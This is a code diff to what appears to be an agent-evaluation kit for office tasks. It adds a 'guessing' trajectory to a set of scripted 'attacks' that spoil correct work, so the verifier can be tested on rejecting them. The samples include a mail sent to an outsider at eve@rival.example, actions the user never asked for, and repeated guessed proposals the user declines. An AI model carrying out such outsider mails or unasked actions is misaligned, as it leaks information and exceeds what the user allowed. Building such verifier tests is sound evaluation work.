@@ -10,7 +10,8 @@ from upturn.environments.office.tasks import FAMILIES, compose, forget, task_str
 from upturn.environments.office.verifier import OfficeVerifier, may_differ
 from upturn.environments.player import Player, following
 from upturn.environments.workspace import tools
-from upturn.models import write_call
+from upturn.environments.workspace.user import PATIENCE
+from upturn.models import read_call, write_call
 from upturn.records import Action, JsonValue, Observation, Split, Task, Turn
 
 _MAKING = frozenset(
@@ -69,8 +70,9 @@ class OfficeKit:
 
     def attacks(self, task: Task) -> Mapping[str, Player]:
         """Perfect work that is spoiled: by a mail to an outsider, by doing once more what makes something new, by a
-        refusal in the end, by no end at all; and work without asking anybody."""
-        draft = compose(task).draft
+        refusal in the end, by no end at all, by guesses of what the user wants; and work without asking anybody."""
+        scenario = compose(task)
+        draft = scenario.draft
         *work, end = draft.oracle
         outside = call("outlook.send", to="eve@rival.example", subject="hello", body="see this")
         unasked = [each for each in work if each.target != "user" or each.operation == "wait"]
@@ -82,6 +84,9 @@ class OfficeKit:
         ]
         if len(unasked) < len(work):
             ways["unasked"] = (*unasked, end)
+        if (place := _first_agreed(work)) is not None:
+            guesses = _guesses(work[place + 2], scenario.workspace.owner, PATIENCE + bool(draft.objection))
+            ways["guessing"] = (*work[:place], *guesses, *work[place:], end)
         players = {name: following([told(task, each) for each in actions]) for name, actions in ways.items()}
         if draft.is_feasible and made:
             again = [told(task, each) for each in agreed(made[-1])]
@@ -91,6 +96,28 @@ class OfficeKit:
     def may_differ(self, task: Task, path: Sequence[str], value: JsonValue) -> bool:
         """What the verifier does not look at, and having read a mail."""
         return may_differ(compose(task).draft, path, value)
+
+
+def _first_agreed(work: Sequence[Action]) -> int | None:
+    """Where the first thing that the user agrees to is shown, two places before it is done; None = nowhere."""
+    for place, (shown, done) in enumerate(zip(work, work[2:], strict=False)):
+        asked = read_call(str(shown.parameters["call"])) if shown.operation == "preview" else None
+        if asked is not None and (asked.target, asked.operation) == (done.target, done.operation):
+            return place
+    return None
+
+
+def _guesses(right: Action, owner: str, count: int) -> Iterator[Action]:
+    """So many proposals of it with other words, or of another mail where it has none, each of which is declined."""
+    written = next((name for name in ("body", "text") if name in right.parameters), None)
+    for number in range(count):
+        text = f"is it {number}?"
+        wrong = (
+            call("outlook.send", to=[owner], subject="a guess", body=text)
+            if written is None
+            else Action(right.target, right.operation, {**right.parameters, written: text})
+        )
+        yield from tuple(agreed(wrong))[:-1]
 
 
 def _insisting(work: Sequence[Action], again: Sequence[Action], end: Action) -> Player:
